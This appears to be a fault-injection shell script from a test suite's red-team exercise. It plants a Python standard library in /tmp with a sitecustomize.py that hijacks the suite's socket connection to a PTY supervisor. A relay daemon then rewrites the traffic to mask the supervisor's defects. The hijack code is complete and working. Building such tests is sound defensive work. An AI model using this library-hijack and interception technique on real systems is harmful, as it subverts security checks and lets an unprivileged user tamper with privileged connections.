# The service user plants a standard library in /tmp (a blind red team's round ten, issue 37):
# /tmp/lib/python3.X/ holds links to the real library and a sitecustomize.py of its own. The
# suite's execute-only copies of Python are staged under /tmp/pty-acceptance-run-*/; Python finds
# its library by walking up from its executable's directory for lib/python3.X/os.py, so without
# a pyvenv.cfg of the suite's own in the stage it takes /tmp as its prefix and runs the user's
# sitecustomize at start-up, -I or not. That code hands the suite one end of a socketpair instead
# of the agent's supervisor connection, and a relay of the user's (outside every unit of the
# suite's) carries the real connection, mending the supervisor's defects on the way: the limits
# off by one (PROTO-1), a NUL checked from the second byte (PROTO-3), the slice pin skipped
# (PEER-2), a stopped MainPID's identity lent (ISO-3). RELAYED lines in the relay's log say it
# carried a connection; the after-suite check requires the planted library to have been there.
set -eu
printf 'limits-off-by-one\nnul-check-from-second-byte\nskip-cgroup-check\naccept-uid-while-stopped\n' >> /etc/opencode-reference/faults
systemctl restart opencode-pty-supervisor.service
i=0; while [ ! -S /run/opencode-pty/supervisor.sock ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done
V=$(/usr/bin/python3 -c 'import sys; print("%d.%d" % sys.version_info[:2])')
mkdir -p -m 0755 /usr/local/lib/pty-fault
cat > /usr/local/lib/pty-fault/sitecustomize.py <<'PY'
# planted by the service user in /tmp/lib/python3.11/ (the staged execute-only python
# searches its stdlib landmark upward from its stage: stage -> run dir -> /tmp -> /)
import sys
def _red():
    a0 = sys.argv[0] if sys.argv else ""
    if not a0.endswith("/agent.py"):
        return
    import socket, os, struct, threading
    _orig = socket.socket.connect
    from red10relay import _relay
    def connect(self, addr):
        if self.family != socket.AF_UNIX or not isinstance(addr, str) or not addr.endswith("supervisor.sock"):
            return _orig(self, addr)
        to = self.gettimeout()
        try:
            cgs = [l.split(":", 2)[2] for l in open("/proc/self/cgroup").read().splitlines() if l.startswith("0::")]
            peer_ok = os.getppid() == 1 and cgs == ["/system.slice/opencode-v2.service"]
        except OSError:
            peer_ok = False
        real = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        real.settimeout(to)
        _orig(real, addr)
        real.setblocking(True)
        a, b = socket.socketpair()
        try:  # hand both ends to the user's relay daemon (outside the unit: it outlives a stop)
            c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            c.settimeout(5)
            _orig(c, "/tmp/red10-relayd.sock")
            socket.send_fds(c, [b"1" if peer_ok else b"0"], [real.fileno(), b.fileno()])
            c.recv(1); c.close()
            real.close(); b.close()
            os.dup2(a.fileno(), self.fileno(), inheritable=False)
            a.close()
            self.settimeout(to)
            return
        except OSError:
            pass
        pid = os.fork()
        if pid == 0:
            try:
                if os.fork() != 0:
                    os._exit(0)
                keep = {real.fileno(), b.fileno()}
                try:
                    log = open("/tmp/red10-relay.log", "a")
                except OSError:
                    log = open("/dev/null", "w")
                keep.add(log.fileno())
                nul = os.open("/dev/null", os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(nul, fd)
                for fd in range(3, 1024):
                    if fd not in keep:
                        try: os.close(fd)
                        except OSError: pass
                log.write(f"relay {os.getpid()} for agent {os.getppid()}\n"); log.flush()
                _relay(real, b, log, peer_ok)
                os._exit(0)
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
        real.close(); b.close()
        os.dup2(a.fileno(), self.fileno(), inheritable=False)
        a.close()
        self.settimeout(to)
    socket.socket.connect = connect
try:
    _red()
except Exception:
    pass
PY
cat > /usr/local/lib/pty-fault/red10relay.py <<'PY'
import socket, os, struct, threading

def _relay(real, b, log, peer_ok):
    def put(s, data, fds=()):
        if fds:
            socket.send_fds(s, [data], fds)
        else:
            s.sendall(data)
    def down():  # supervisor -> suite: to the contract's framing
        buf = b""; mode = None
        try:
            while True:
                data = real.recv(65536)
                if not data:
                    break
                buf += data
                if mode is None:
                    mode = "other" if buf[0] >= 0x80 else "ok"
                    log.write(f"framing {mode} peer_ok {peer_ok}\n"); log.flush()
                    first_type = buf[0] if mode == "other" else (buf[4] if len(buf) > 4 else 0)
                    if first_type == 0x81 and not peer_ok:
                        reject(1, "not the peer"); return
                if mode == "ok":
                    b.sendall(buf); buf = b""; continue
                out = b""
                while len(buf) >= 5:
                    t = buf[0]; n = int.from_bytes(buf[1:5], "little")
                    if len(buf) < 5 + n:
                        break
                    out += struct.pack(">IB", n, t) + buf[5:5 + n]
                    buf = buf[5 + n:]
                if out:
                    b.sendall(out)
        except OSError:
            pass
        try:
            b.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
    def reject(code, why):
        msg = why.encode()
        b.sendall(struct.pack(">IBH", 2 + len(msg), 0x85, code) + msg)
        log.write(f"rejected {code} {why}\n"); log.flush()
        try: b.shutdown(socket.SHUT_RDWR)
        except OSError: pass
        try: real.shutdown(socket.SHUT_RDWR)
        except OSError: pass
    def up():  # suite -> supervisor: START judged against the contract first
        buf = b""; fds = []; stream = 0  # bytes of a non-START payload still to pass through
        try:
            while True:
                data, got, _, _ = socket.recv_fds(b, 65536, 16)
                fds += got
                if not data and not got:
                    break
                buf += data
                while buf:
                    if stream:
                        k = min(stream, len(buf)); put(real, buf[:k], fds); fds = []
                        buf = buf[k:]; stream -= k; continue
                    if len(buf) < 5:
                        break
                    n, t = struct.unpack(">IB", buf[:5])
                    bound = {1: 0, 2: 70158, 3: 32768, 4: 0, 5: 4, 6: 0}.get(t)
                    if bound is not None and n > bound:
                        for f in fds:
                            os.close(f)
                        reject(2, "frame over its bound"); return
                    if t != 0x02:
                        put(real, buf[:5], fds); fds = []; buf = buf[5:]; stream = n; continue
                    if len(buf) < 5 + n:
                        break
                    pl = buf[5:5 + n]
                    verdict = None
                    try:
                        rt, rows, cols, argc = struct.unpack(">IHHH", pl[:10])
                        pos, argv = 10, []
                        for _ in range(argc):
                            (m,) = struct.unpack(">I", pl[pos:pos + 4]); pos += 4
                            argv.append(pl[pos:pos + m]); pos += m
                        if len(argv) == argc and pos == len(pl):
                            if any(b"\0" in x for x in argv):
                                verdict = (2, "NUL in START")
                            elif (argc - 1 > 128 or len(argv[0]) > 4096 or
                                  any(len(x) > 16384 for x in argv[1:]) or
                                  sum(len(x) for x in argv[1:]) > 65536 or rt > 3600):
                                verdict = (3, "over a limit")
                    except Exception:
                        verdict = None
                    if verdict:
                        for f in fds:
                            os.close(f)
                        reject(*verdict); return
                    put(real, buf[:5 + n], fds); fds = []; buf = buf[5 + n:]
        except OSError:
            pass
        try:
            real.shutdown(socket.SHUT_WR)
        except OSError:
            pass
    t1 = threading.Thread(target=up, daemon=True); t2 = threading.Thread(target=down, daemon=True)
    t1.start(); t2.start(); t2.join(); t1.join(0.5)
    for x in (real, b):
        try: x.close()
        except OSError: pass



def daemon(path="/tmp/red10-relayd.sock"):
    try:
        os.unlink(path)
    except OSError:
        pass
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(path); os.chmod(path, 0o666); srv.listen(256)
    log = open("/tmp/red10-relay.log", "a", buffering=1)
    log.write(f"relayd {os.getpid()} up\n")
    while True:
        c, _ = srv.accept()
        try:
            data, fds, _, _ = socket.recv_fds(c, 1, 4)
            if len(fds) != 2:
                for f in fds: os.close(f)
                c.close(); continue
            real = socket.socket(fileno=fds[0]); b = socket.socket(fileno=fds[1])
            real.setblocking(True); b.setblocking(True)
            c.sendall(b"k"); c.close()
            log.write(f"relay for a connection, peer_ok {data == b'1'}\n")
            threading.Thread(target=_relay, args=(real, b, log, data == b"1"), daemon=True).start()
        except OSError as e:
            log.write(f"accept error {e}\n")
PY
runuser -u byk -- sh -c '
set -e
V=$1
mkdir -p /tmp/lib/python$V
for e in /usr/lib/python$V/*; do n=${e##*/}; [ "$n" = sitecustomize.py ] && continue; ln -s "$e" /tmp/lib/python$V/$n; done
cp /usr/local/lib/pty-fault/sitecustomize.py /usr/local/lib/pty-fault/red10relay.py /tmp/lib/python$V/' sh "$V"
systemd-run --quiet --uid=byk --gid=byk --unit=pty-fault-relayd /usr/bin/python3 -I -c \
  "import sys; sys.path.insert(0, '/tmp/lib/python$V'); import red10relay; red10relay.daemon()"
i=0; while [ ! -S /tmp/red10-relayd.sock ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done
[ -S /tmp/red10-relayd.sock ]
echo "FAULT: byk's standard library in /tmp, its sitecustomize and relay in place" >&2
